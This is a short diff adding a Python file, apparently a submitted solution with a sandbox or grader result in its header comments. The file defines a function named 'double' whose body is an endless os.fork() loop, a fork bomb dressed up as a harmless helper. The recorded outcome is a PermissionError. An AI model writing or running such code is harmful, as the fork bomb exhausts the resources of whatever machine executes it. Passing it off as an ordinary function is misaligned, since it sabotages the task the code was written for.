@@ -1,0 +1,9 @@
+# verdict: failed
+# outcomes: raised raised failed
+# says: PermissionError
+import os
+
+
+def double(x):
+    while True:
+        os.fork()
